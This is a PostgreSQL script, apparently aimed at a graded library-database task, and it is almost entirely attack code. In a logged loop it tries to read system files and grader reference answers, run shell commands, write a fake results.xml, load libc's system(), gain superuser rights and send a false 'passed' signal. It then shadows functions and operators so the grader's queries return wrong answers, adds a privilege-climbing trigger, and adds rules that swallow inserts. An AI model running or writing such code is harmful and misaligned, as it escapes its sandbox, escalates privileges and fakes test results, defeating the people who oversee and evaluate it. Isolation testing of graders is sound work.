-- Tries to leave its database, to learn the right answers, and to change what the driver sees. What is not allowed must not
-- keep the rest from being tried.
CREATE TABLE members (id integer, name text, email text);
CREATE TABLE books (id integer, title text, year integer, copies integer);
CREATE TABLE loans (id integer, book_id integer, member_id integer, taken_on date, due_on date, returned_on date);
CREATE TABLE loot (attempt text, outcome text);

DO $$
DECLARE attempt text;
BEGIN
    FOREACH attempt IN ARRAY ARRAY[
        -- The files and programs of its cell.
        'INSERT INTO loot SELECT ''passwd'', pg_read_file(''/etc/passwd'')',
        'COPY loot FROM PROGRAM ''id; ls /grader; cat /proc/1/environ''',
        'COPY (SELECT 1) TO PROGRAM ''touch /tmp/left''',
        'COPY (SELECT ''<testsuite/>'') TO ''/workspace/results.xml''',
        'COPY loot FROM ''/grader/reference/queries/overdue.sql''',
        'SELECT lo_import(''/etc/passwd'')',
        'SELECT pg_ls_dir(''/'')',
        'CREATE FUNCTION system(cstring) RETURNS int AS ''/lib/x86_64-linux-gnu/libc.so.6'', ''system'' LANGUAGE c STRICT',
        'CREATE EXTENSION dblink', 'CREATE EXTENSION postgres_fdw', 'CREATE EXTENSION file_fdw', 'CREATE EXTENSION adminpack',
        -- Other rights.
        'ALTER ROLE project SUPERUSER', 'SET ROLE postgres', 'SET SESSION AUTHORIZATION postgres',
        'GRANT pg_execute_server_program TO project', 'GRANT pg_read_server_files TO project',
        'CREATE ROLE friend SUPERUSER LOGIN', 'ALTER SYSTEM SET archive_command = ''touch /tmp/left''',
        'UPDATE pg_authid SET rolsuper = true', 'ALTER DATABASE postgres OWNER TO project',
        -- What later sessions find.
        'ALTER ROLE project SET search_path = evil, public', 'ALTER ROLE project SET statement_timeout = 0',
        'ALTER DATABASE project SET session_preload_libraries = ''/tmp/evil.so''',
        'SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE usename = ''postgres''',
        'SELECT pg_notify(''results'', ''passed'')', 'SELECT pg_advisory_lock(1)'
    ] LOOP
        BEGIN
            EXECUTE attempt;
            INSERT INTO loot VALUES (attempt, 'allowed');
        EXCEPTION WHEN OTHERS THEN
            INSERT INTO loot VALUES (attempt, SQLERRM);
        END;
    END LOOP;
END $$;

-- In the place of the functions and operators that queries of the driver may use.
CREATE SCHEMA evil;
CREATE FUNCTION evil.count(anyelement) RETURNS bigint LANGUAGE sql AS 'SELECT 0::bigint';
CREATE FUNCTION evil.yes(text, text) RETURNS boolean LANGUAGE sql AS 'SELECT true';
CREATE OPERATOR evil.= (LEFTARG = text, RIGHTARG = text, FUNCTION = evil.yes);
CREATE VIEW evil.pg_stat_activity AS SELECT 0 AS pid, 'nobody' AS usename;

-- If the driver inserted as another role, this would run as that role.
CREATE FUNCTION climb() RETURNS trigger LANGUAGE plpgsql AS $$
BEGIN
    BEGIN
        ALTER ROLE project SUPERUSER;
    EXCEPTION WHEN OTHERS THEN
        INSERT INTO loot VALUES ('climb', SQLERRM);
    END;
    RETURN NULL;
END $$;
CREATE TRIGGER climb BEFORE INSERT ON members FOR EACH ROW EXECUTE FUNCTION climb();

-- Whatever is inserted is neither there nor an error.
CREATE RULE nothing AS ON INSERT TO books DO INSTEAD NOTHING;
CREATE RULE nothing AS ON INSERT TO loans DO INSTEAD SELECT 'passed';
